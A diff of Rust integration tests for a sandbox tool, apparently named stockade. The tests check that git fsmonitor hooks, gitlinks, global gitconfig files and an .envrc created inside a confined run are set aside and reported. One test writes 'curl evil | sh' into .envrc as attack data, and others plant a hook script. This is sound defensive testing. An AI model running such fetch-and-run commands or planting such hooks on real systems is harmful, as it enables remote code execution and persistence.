@@ -11,136 +11,16 @@
 
 use std::ffi::OsStr;
 use std::fs;
-use std::os::unix::fs::PermissionsExt;
-use std::path::{Path, PathBuf};
-use std::process::{Command, Output, Stdio};
+use std::path::Path;
 
-use stockade_testkit::users::{Who, users};
+use stockade_testkit::users::users;
+
+mod common;
+use common::*;
 
 /// What every line of the audit says, once per entry set aside.
 const MOVED: &str = "was moved aside to";
 const QUARANTINE: &str = ".stockade-quarantine-";
-
-fn backends() -> Vec<&'static str> {
-    let mut b = vec!["landlock"];
-    if stockade_testkit::require("bwrap", stockade_testkit::have_bwrap()) {
-        b.insert(0, "bwrap");
-    }
-    b
-}
-
-/// Scratch outside every writable root (not /tmp, not $TMPDIR).
-fn base() -> PathBuf {
-    let b = stockade_testkit::scratch_base(Path::new(env!("CARGO_TARGET_TMPDIR")));
-    let _ = fs::set_permissions(&b, fs::Permissions::from_mode(0o755));
-    b
-}
-
-fn owned_dir(base: &Path, prefix: &str, who: Who) -> tempfile::TempDir {
-    let d = tempfile::Builder::new()
-        .prefix(prefix)
-        .tempdir_in(base)
-        .unwrap();
-    who.own(d.path());
-    d
-}
-
-/// `program` as `who` with `home` as `$HOME` and runtime dir, and no global
-/// git configuration but `global` (when given).
-fn as_user(who: Who, program: &OsStr, home: &Path, global: Option<&Path>) -> Command {
-    let mut c = who.command(program);
-    c.env("XDG_RUNTIME_DIR", home)
-        .env("HOME", home)
-        .env("XDG_CONFIG_HOME", home.join(".config"))
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env_remove("TMPDIR")
-        .stdin(Stdio::null());
-    match global {
-        Some(g) => c.env("GIT_CONFIG_GLOBAL", g),
-        None => c.env("GIT_CONFIG_GLOBAL", "/dev/null"),
-    };
-    c
-}
-
-/// `sh -c script` confined by `stockade exec` under workspace-write.
-fn exec(
-    who: Who,
-    home: &Path,
-    global: Option<&Path>,
-    backend: &str,
-    ws: &Path,
-    script: &str,
-) -> Output {
-    exec_command(who, home, global, backend, ws, script)
-        .output()
-        .unwrap()
-}
-
-fn exec_command(
-    who: Who,
-    home: &Path,
-    global: Option<&Path>,
-    backend: &str,
-    ws: &Path,
-    script: &str,
-) -> Command {
-    let mut c = as_user(
-        who,
-        OsStr::new(env!("CARGO_BIN_EXE_stockade")),
-        home,
-        global,
-    );
-    c.args(["exec", "--backend", backend, "--mode", "workspace-write"])
-        .arg("--workspace")
-        .arg(ws)
-        .args(["--", "/bin/sh", "-c", script])
-        .current_dir(ws);
-    c
-}
-
-/// The user's own git, unconfined, as `who`.
-fn user_git(who: Who, home: &Path, global: Option<&Path>, ws: &Path, args: &[&str]) -> Output {
-    let mut c = as_user(who, OsStr::new("git"), home, global);
-    c.args(["-c", "user.name=t", "-c", "user.email=t@t", "-C"])
-        .arg(ws)
-        .args(args);
-    c.output().unwrap()
-}
-
-fn text(b: &[u8]) -> String {
-    String::from_utf8_lossy(b).into_owned()
-}
-
-fn ok(out: &Output) {
-    assert!(out.status.success(), "{}", text(&out.stderr));
-}
-
-/// A repository with one commit, owned by `who`, at `dir`.
-fn init(who: Who, home: &Path, dir: &Path) {
-    ok(&user_git(who, home, None, dir, &["init", "-q"]));
-    ok(&user_git(
-        who,
-        home,
-        None,
-        dir,
-        &["commit", "-q", "--allow-empty", "-m", "one"],
-    ));
-}
-
-fn repo(base: &Path, who: Who, home: &Path) -> tempfile::TempDir {
-    let ws = owned_dir(base, "repo-", who);
-    init(who, home, ws.path());
-    ws
-}
-
-/// A script in the run's directory that leaves `marker` when anything
-/// runs it.
-fn marker_script(marker: &Path) -> String {
-    format!(
-        "printf '#!/bin/sh\\ntouch {}\\n' > mon.sh && chmod +x mon.sh",
-        marker.display()
-    )
-}
 
 /// The names in `dir` that are quarantined entries.
 fn quarantined(dir: &Path) -> Vec<String> {
@@ -173,7 +53,7 @@ fn a_nested_repo_the_run_stages_as_a_gitlink_is_set_aside() {
                  git ls-files -s evil | grep -q ^160000",
                 mon = marker_script(&marker)
             );
-            let out = exec(who, home.path(), None, backend, ws.path(), &attack);
+            let out = exec(who, home.path(), None, backend, ws.path(), &[], &attack);
             let stderr = text(&out.stderr);
             assert!(
                 out.status.success(),
@@ -234,6 +114,7 @@ fn a_users_own_nested_repo_is_left_alone_unless_the_run_reconfigures_it() {
                 None,
                 backend,
                 ws.path(),
+                &[],
                 "echo a > a && git add a && git -C sub log -1 --format=%s",
             );
             assert_eq!(text(&out.stdout).trim(), "one", "{}", text(&out.stderr));
@@ -250,7 +131,7 @@ fn a_users_own_nested_repo_is_left_alone_unless_the_run_reconfigures_it() {
                 "{}; git -C sub config core.fsmonitor \"$PWD/mon.sh\"",
                 marker_script(&marker)
             );
-            let out = exec(who, home.path(), None, backend, ws.path(), &attack);
+            let out = exec(who, home.path(), None, backend, ws.path(), &[], &attack);
             ok(&out);
             assert!(
                 text(&out.stderr).contains(MOVED),
@@ -290,7 +171,7 @@ fn a_global_gitconfig_the_run_creates_is_set_aside() {
             );
             // The proxy's socket may not lie in the writable home.
             let runtime = owned_dir(&base, "run-", who);
-            let out = exec_command(who, h, Some(&global), backend, h, &attack)
+            let out = exec_command(who, h, Some(&global), backend, h, &[], &attack)
                 .env("XDG_RUNTIME_DIR", runtime.path())
                 .output()
                 .unwrap();
@@ -331,6 +212,7 @@ fn an_envrc_the_run_creates_is_set_aside_and_reported() {
                 None,
                 backend,
                 p,
+                &[],
                 "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo done",
             );
             assert_eq!(text(&out.stdout).trim(), "done", "{}", text(&out.stderr));
